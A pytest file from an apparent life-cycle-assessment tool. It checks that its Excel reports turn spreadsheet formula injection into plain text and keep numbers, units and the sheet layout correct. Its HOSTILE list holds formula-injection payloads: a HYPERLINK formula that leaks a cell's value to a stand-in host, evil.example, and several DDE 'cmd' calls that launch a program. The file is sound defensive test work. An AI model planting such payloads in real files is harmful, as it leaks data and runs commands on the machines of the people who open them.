"""The results workbook: numbers as numbers, units in headers, and text that never runs.

Issue 12 (security 3): inventory and dataset text starting with =, +, - or @ became live
formulas in `lca report --out r.xlsx`. Every text cell of the workbook is now text, and
one that a spreadsheet would read as a formula carries Excel's quote prefix.
"""

from __future__ import annotations

import io
import json
import re

import openpyxl
import pytest

import lca
import lca.data
from lca.cli import main
from lca.report.commands import write_report
from lca.report.xlsx import FORMULA_STARTS

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]
NUMBER_TEXT = re.compile(r"^[-+]?(\d{1,3}(,\d{3})+|\d+)(\.\d+)?%?$")  # "8", "80.9%", "1,082,990"


def hostile_model(tmp_path):
    """Formula payloads in an inventory's name, an activity name, a source and an info field,
    and in a dataset entry's description and source (a user dataset, LCA_DATA_PATH style)."""
    folder = tmp_path / "data"
    folder.mkdir()
    quoted = HOSTILE[0].replace('"', '""')
    (folder / "grid.csv").write_text(
        "name,description,unit,gwp,gwp_low,gwp_high,gwp_source\n"
        f'evil,"{HOSTILE[3]}",kWh,0.057,0.04,0.11,"{quoted}"\n',
        encoding="utf-8",
    )
    lca.data.reload([folder])
    path = tmp_path / "hostile.yaml"
    path.write_text(
        f"""format: lca-inventory/1
name: {json.dumps(HOSTILE[4])}
functional_unit: {{activity: job, amount: 1, unit: run}}
info: {{goal: {json.dumps(HOSTILE[3])}}}
parameters:
  hours: {{amount: 10, unit: h, source: {json.dumps(HOSTILE[2])}}}
  power: {{amount: 10, unit: kW, source: a guess}}
activities:
  - {{code: grid, dataset: grid/evil}}
  - code: job
    name: {json.dumps(HOSTILE[1])}
    phase: training
    unit: run
    exchanges:
      - {{input: grid, amount: hours * power, unit: kWh}}
""",
        encoding="utf-8",
    )
    return path


def cells(book):
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield sheet.title, cell


def check_workbook(path):
    book = openpyxl.load_workbook(path)
    seen = set()
    for sheet, cell in cells(book):
        assert cell.data_type != "f", f"{sheet}!{cell.coordinate} is a formula: {cell.value!r}"
        if isinstance(cell.value, str):
            assert not NUMBER_TEXT.match(cell.value), (
                f"{sheet}!{cell.coordinate}: a number stored as text {cell.value!r}"
            )
            if cell.value.startswith(FORMULA_STARTS):
                assert cell.quotePrefix, f"{sheet}!{cell.coordinate}: {cell.value!r} is not neutralised"
            seen.add(cell.value)
        elif not isinstance(cell.value, bool):
            assert isinstance(cell.value, int | float)
    return book, seen


def test_report_and_results_workbooks_neutralise_formulas(tmp_path):
    inventory = hostile_model(tmp_path)
    try:
        report, results = tmp_path / "report.xlsx", tmp_path / "results.xlsx"
        assert main(["report", str(inventory), "--out", str(report)]) == 0
        assert main(["export", str(inventory), "--results", "--out", str(results)]) == 0
        book, seen = check_workbook(report)
        _, seen_results = check_workbook(results)
    finally:
        lca.data.reload()
    # every payload reached the workbook as text: inventory text and dataset text
    joined = "\n".join(seen)
    for payload in HOSTILE:
        assert payload in joined
    assert seen == seen_results  # the same layout and content from both commands
    assert book.sheetnames == openpyxl.load_workbook(results).sheetnames


def test_workbook_layout(tmp_path):
    out = tmp_path / "bloom.xlsx"
    write_report(lca.bloom(), out, iterations=0, date="2026-01-01")
    book, _ = check_workbook(out)
    sheet = book["results"]
    assert sheet.freeze_panes == "B3"
    assert sheet.auto_filter.ref == "A2:E6"
    header = [c.value for c in sheet[2]]
    assert header == ["phase", "GWP [kg CO2 eq]", "ADP [kg Sb eq]", "PE [MJ]", "WATER [L]"]
    # the BLOOM total (test_report_bloom.py): 50,892.56 kg, shown with a thousands format
    total = next(r for r in sheet.iter_rows(min_row=3) if r[0].value == "total")
    assert total[1].value == pytest.approx(50892.563, rel=1e-8) and total[1].number_format == "#,##0"
    shares = book["contributors"]
    assert shares["B3"].number_format == "0.0%" and 0 < shares["B3"].value < 1  # a share is a number
    # the parameters keep the amounts as entered, as numbers
    parameters = {r[0]: r[1] for r in book["parameters"].iter_rows(min_row=3, values_only=True)}
    assert (
        parameters["gpu_hours"] == 1_082_990
        and parameters["idle_ratio"] == "idle_energy / (gpu_hours * gpu_tdp)"
    )
    # one sheet per table of the HTML report, and the tables too long for a page
    assert {
        "results",
        "contributors",
        "parameters",
        "exchanges",
        "effects",
        "practices",
        "equivalences",
    } <= set(book.sheetnames)
    assert "activities" in book.sheetnames


def test_workbook_with_bands_has_low_and_high_columns(tmp_path, bloom_model, bloom_result, fake_bands):
    from lca.report import render
    from lca.report.build import build_document
    from lca.report.sections import ReportInput

    document = build_document(ReportInput(bloom_model, bloom_result, bands=fake_bands, date="2026-01-01"))
    book = openpyxl.load_workbook(io.BytesIO(render(document, "xlsx")))
    sheet = book["results"]
    header = [c.value for c in sheet[2]]
    assert header[5:7] == ["GWP [kg CO2 eq] low", "GWP [kg CO2 eq] high"]
    total = next(r for r in sheet.iter_rows(min_row=3) if r[0].value == "total")
    low, _, high = fake_bands.phase_bands["total"]["GWP"]
    assert (total[5].value, total[6].value) == (pytest.approx(low), pytest.approx(high))
